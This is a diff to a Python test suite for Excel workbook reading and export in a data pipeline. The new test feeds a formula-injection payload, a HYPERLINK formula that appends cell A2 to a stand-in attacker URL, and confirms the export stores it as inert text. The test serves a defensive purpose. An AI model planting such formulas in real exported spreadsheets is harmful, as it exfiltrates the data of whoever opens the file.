@@ -1,4 +1,4 @@
-"""Excel workbooks, written with openpyxl as Excel would save them and read back as records."""
+"""Excel workbooks: read as a source, as Excel would save them, and written as an export."""
 
 from __future__ import annotations
 
@@ -156,3 +156,26 @@ def test_a_workbook_goes_through_the_pipeline_with_its_types(tmp_path: Path) -> 
     quarantined = pd.read_parquet(out / "quarantined.parquet")
     assert list(quarantined["_reason"]) == [
         "companies.xlsx#Companies:3: field 'website' = 'not a url' is not a valid url"]
+
+
+def test_an_export_as_a_workbook_holds_text_as_text_and_reads_back(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from augment_it.layout import write_frame
+
+    formula = '=HYPERLINK("https://evil.example?"&A2)'
+    frame = pd.DataFrame({"id": [1, 2], "summary": [formula, "bell\x07 " + "x" * 40_000],
+                          "score": [0.5, None], "tags": [["a", "b"], None], "ok": [True, None]})
+    with pytest.warns(UserWarning, match="exported.xlsx: 1 cell"):
+        write_frame(frame, str(tmp_path / "exported.xlsx"), "xlsx")
+    sheet = load_workbook(tmp_path / "exported.xlsx").active  # formulas as written, not computed
+    assert sheet.title == "exported"
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0] == ("id", "summary", "score", "tags", "ok")
+    assert rows[1] == (1, formula, 0.5, '["a", "b"]', "true")
+    assert sheet["B2"].data_type == "s", "an answer is never a formula Excel runs"
+    cut = rows[2][1]
+    assert cut.startswith("bell\ufffd x") and cut.endswith("\u2026") and len(cut) == 32_767
+    assert rows[2][2:] == (None, None, None)
+    records = open_source(str(tmp_path / "exported.xlsx")).read().records
+    assert [r["summary"] for r in records] == [formula, cut]
